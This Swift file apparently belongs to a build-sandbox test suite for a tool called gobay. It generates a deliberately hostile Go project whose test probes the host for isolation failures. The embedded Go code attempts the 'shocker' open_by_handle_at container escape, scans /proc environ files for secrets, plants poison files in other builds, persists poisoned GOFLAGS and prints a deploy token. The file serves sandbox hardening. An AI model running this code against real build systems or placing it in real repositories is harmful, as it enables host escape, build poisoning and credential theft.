import Foundation
import GobayCore

/// A Go project whose `go test` attacks the build host the way a compromised repository would,
/// printing one `ATTACK <name>: blocked (...)` or `ATTACK <name>: SUCCEEDED (...)` line per attack.
/// Its test always fails at the end, so `go test` shows the output (and the build ends failed).
public struct HostileProject {
    /// Paths of gobay's that the attacks aim at (an attacker is assumed to know the layout).
    public var database: String
    /// gobay.yml.
    public var config: String
    /// Another environment's directory.
    public var otherEnvironment: String
    /// Another build's artifact store.
    public var otherArtifacts: String
    /// A variable in gobay's own environment whose value must stay unreadable.
    public var probeVariable: String
    /// The seconds argument of the detached daemon (`sleep N`), unique per test.
    public var daemonSeconds: Int
    /// Names of attacks and the lines they print.
    public static let attacks = [
        "descriptors", "capabilities", "open_by_handle_at", "read database", "read config",
        "write other environment", "read other environment", "write other artifacts", "go env -w",
        "read gobay environ",
    ]

    /// Creates the attack list against these paths.
    public init(
        database: String, config: String, otherEnvironment: String, otherArtifacts: String, probeVariable: String,
        daemonSeconds: Int
    ) {
        self.database = database
        self.config = config
        self.otherEnvironment = otherEnvironment
        self.otherArtifacts = otherArtifacts
        self.probeVariable = probeVariable
        self.daemonSeconds = daemonSeconds
    }

    /// The files of the project (module `ex.com/team/hostile-svc`, go 1.22).
    public var files: [String: String] {
        [
            "go.mod": "module ex.com/team/hostile-svc\n\ngo 1.22\n",
            "main.go": "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hostile\") }\n",
            "attack_test.go": testSource,
        ]
    }

    private var testSource: String {
        """
        package main

        import (
        \t"fmt"
        \t"os"
        \t"os/exec"
        \t"path/filepath"
        \t"runtime"
        \t"strings"
        \t"syscall"
        \t"testing"
        \t"unsafe"
        )

        func report(name string, blocked bool, detail string) {
        \tif blocked {
        \t\tfmt.Printf("ATTACK %s: blocked (%s)\\n", name, detail)
        \t} else {
        \t\tfmt.Printf("ATTACK %s: SUCCEEDED (%s)\\n", name, detail)
        \t}
        }

        func errText(err error) string {
        \tif err == nil {
        \t\treturn "no error"
        \t}
        \treturn err.Error()
        }

        func TestAttacks(t *testing.T) {
        \t// Descriptors inherited from gobay: sockets or files outside /proc.
        \tentries, _ := os.ReadDir("/proc/self/fd")
        \tvar leaked []string
        \tvar all []string
        \tfor _, e := range entries {
        \t\ttarget, _ := os.Readlink("/proc/self/fd/" + e.Name())
        \t\tall = append(all, e.Name()+"="+target)
        \t\tif e.Name() == "0" || e.Name() == "1" || e.Name() == "2" {
        \t\t\tcontinue
        \t\t}
        \t\t// go test's own: its test log in its temp dir, the runtime's epoll and pipes.
        \t\tif strings.HasPrefix(target, "socket:") || (strings.HasPrefix(target, "/") && !strings.HasPrefix(target, "/proc/") && target != "/dev/null" && !strings.Contains(target, "/go-build")) {
        \t\t\tleaked = append(leaked, e.Name()+"="+target)
        \t\t}
        \t}
        \treport("descriptors", len(leaked) == 0, strings.Join(all, " "))

        \tstatus, _ := os.ReadFile("/proc/self/status")
        \tcapeff := "?"
        \tfor _, line := range strings.Split(string(status), "\\n") {
        \t\tif strings.HasPrefix(line, "CapEff:") {
        \t\t\tcapeff = strings.TrimSpace(strings.TrimPrefix(line, "CapEff:"))
        \t\t}
        \t}
        \treport("capabilities", capeff == "0000000000000000", "CapEff "+capeff)

        \t// The "shocker" escape: a file handle opened by number, past every mount.
        \tnrName, nrOpen := uintptr(303), uintptr(304)
        \tif runtime.GOARCH == "arm64" {
        \t\tnrName, nrOpen = 264, 265
        \t}
        \thandle := make([]byte, 8+128)
        \t*(*uint32)(unsafe.Pointer(&handle[0])) = 128
        \tvar mountID int32
        \troot, _ := syscall.BytePtrFromString("/")
        \t_, _, e1 := syscall.Syscall6(nrName, uintptr(0xffffff9c), uintptr(unsafe.Pointer(root)), uintptr(unsafe.Pointer(&handle[0])), uintptr(unsafe.Pointer(&mountID)), 0, 0)
        \tif e1 != 0 {
        \t\treport("open_by_handle_at", true, "name_to_handle_at: "+e1.Error())
        \t} else {
        \t\tmountFD, _ := syscall.Open("/", syscall.O_RDONLY, 0)
        \t\tfd, _, e2 := syscall.Syscall(nrOpen, uintptr(mountFD), uintptr(unsafe.Pointer(&handle[0])), uintptr(syscall.O_RDONLY))
        \t\treport("open_by_handle_at", e2 != 0, fmt.Sprintf("fd %d err %v", int(fd), e2))
        \t}

        \t_, err := os.ReadFile(\(database.debugDescription))
        \treport("read database", err != nil, errText(err))
        \t_, err = os.ReadFile(\(config.debugDescription))
        \treport("read config", err != nil, errText(err))

        \terr = os.WriteFile(\((EnvironmentDirectory(path: otherEnvironment).gopath + "/src/poison.go").debugDescription), []byte("package poison\\n"), 0o644)
        \treport("write other environment", err != nil, errText(err))
        \t_, err = os.ReadDir(\((EnvironmentDirectory(path: otherEnvironment).gopath + "/src").debugDescription))
        \treport("read other environment", err != nil, errText(err))
        \terr = os.WriteFile(\((otherArtifacts + "/poison").debugDescription), []byte("poison"), 0o755)
        \treport("write other artifacts", err != nil, errText(err))

        \t// GOENV=off makes `go env -w` write nothing; what counts is whether the setting sticks.
        \twritten, _ := exec.Command("go", "env", "-w", "GOFLAGS=-ldflags=-X=main.version=POISONED").CombinedOutput()
        \tafter, _ := exec.Command("go", "env", "GOFLAGS").CombinedOutput()
        \treport("go env -w", !strings.Contains(string(after), "POISONED"), strings.TrimSpace(string(written))+" / GOFLAGS="+strings.TrimSpace(string(after)))

        \tfound := ""
        \tenvirons, _ := filepath.Glob("/proc/[0-9]*/environ")
        \tfor _, path := range environs {
        \t\tdata, err := os.ReadFile(path)
        \t\tif err == nil && strings.Contains(string(data), \((probeVariable + "=").debugDescription)) {
        \t\t\tfound = path
        \t\t}
        \t}
        \treport("read gobay environ", found == "", "found in "+found)

        \t// A daemon that leaves the process group and session and drops every gobay variable.
        \tdaemon := exec.Command("sleep", "\(daemonSeconds)")
        \tdaemon.Env = []string{"PATH=/usr/bin:/bin"}
        \tdaemon.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
        \tdaemonErr := daemon.Start()
        \tfmt.Println("daemon started:", errText(daemonErr))

        \tfmt.Println("deploy token is " + os.Getenv("DEPLOY_TOKEN"))
        \tt.Fatal("hostile test done")
        }

        """
    }
}
